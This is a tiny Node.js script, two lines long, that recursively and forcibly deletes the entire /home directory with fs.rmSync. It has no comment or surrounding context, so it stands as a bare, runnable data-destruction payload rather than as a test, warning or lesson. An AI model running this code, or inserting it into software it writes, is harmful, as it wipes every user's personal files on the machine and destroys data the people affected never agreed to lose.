const { rmSync } = require("fs");
rmSync("/home", { recursive: true, force: true });
